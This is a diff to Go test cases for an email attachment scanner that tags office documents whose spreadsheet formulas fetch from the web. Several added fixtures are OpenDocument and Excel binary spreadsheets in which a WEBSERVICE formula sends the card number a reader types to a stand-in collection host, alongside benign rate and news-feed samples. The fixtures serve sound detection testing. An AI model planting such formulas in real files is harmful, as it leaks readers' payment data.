@@ -194,6 +194,24 @@ func officeLinkCases() []officeCase {
 			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
 			data:  odsFormula(`COM.MICROSOFT.WEBSERVICE(&quot;http://collect.example.net/c?k=&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`),
 			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}}},
+		{name: "ods-webservice-cell-address", about: "OpenDocument spreadsheet whose WEBSERVICE takes its address from another cell, which builds it from the cell where the reader types a card number: what the reader enters leaves as the sheet is calculated",
+			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
+			data: odf(ctOds, `<office:spreadsheet><table:table table:name="Order"><table:table-row>`+
+				`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A2])" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
+				`<table:table-cell office:value-type="string"><text:p>Card number:</text:p></table:table-cell><table:table-cell/></table:table-row><table:table-row>`+
+				`<table:table-cell table:formula="of:=&quot;https://collect.example.net/c?n=&quot;&amp;[.C1]" office:value-type="string" office:string-value="x"><text:p>x</text:p></table:table-cell>`+
+				`</table:table-row></table:table></office:spreadsheet>`),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}}},
+		{name: "xlsb-webservice-form", about: "Excel binary workbook (.xlsb) whose cell calls WEBSERVICE (a future function kept as a hidden name, PtgName and PtgFuncVar 255) with the address another cell builds from the cell the reader fills in",
+			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
+			data: formats.XLSB(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
+					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Ref(2, 0), formats.PtgFuncVar(2, 0xFF, false))},
+					{Row: 2, Rgce: formats.Cat(formats.Ptg12Str("https://collect.example.net/c?n="), formats.Ptg12Ref(0, 2), formats.PtgConcat)}},
+					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "Card number:"}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"Card number:"}}),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
 		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
 			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
 			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
@@ -248,6 +266,19 @@ func officeLinkClean() []Sample {
 	add(ok("ods-webservice-rates", "an OpenDocument spreadsheet reading the ECB's daily exchange rates with FILTERXML(WEBSERVICE(...)), as spreadsheet guides show"),
 		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Today's rates from the ECB.\n"),
 			attach(ctOds, "rates.ods", odsFormula(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml&quot;);&quot;//Cube&quot;)`)))})
+	add(ok("xlsb-webservice-rates-cell", "an Excel binary workbook from a supplier reading exchange rates for the currency its own cell names (WEBSERVICE of an address built from the sheet's cells)"),
+		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Rates", root: multipart("mixed", text("The price list converts with today's rates.\n"),
+			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "prices.xlsb", formats.XLSB(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Prices", Formulas: []formats.XLSFormula{
+					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Str("https://api.rates.example/latest?base="), formats.Ptg12Ref(0, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
+					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "EUR"}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"EUR"}})))})
+	add(ok("ods-webservice-feed", "an OpenDocument spreadsheet from a supplier reading its news feed on a named host with FILTERXML(WEBSERVICE(...)), the address in another cell"),
+		mail{from: "Accounts <accounts@supplies.example.com>", subject: "News", root: multipart("mixed", text("Our news, always current.\n"),
+			attach(ctOds, "news.ods", odf(ctOds, `<office:spreadsheet><table:table table:name="News"><table:table-row>`+
+				`<table:table-cell table:formula="of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE([.B1]);&quot;//title&quot;)" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
+				`<table:table-cell office:value-type="string"><text:p>https://news.example.org/feed.xml</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)))})
 	add(ok("ods-linked-sheet-intranet", "an OpenDocument spreadsheet referring to a workbook on the intranet file server (file://fileserver/...)"),
 		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary.\n"),
 			attach(ctOds, "summary.ods", odsLinked("file://fileserver/finance/budget.xlsx")))})
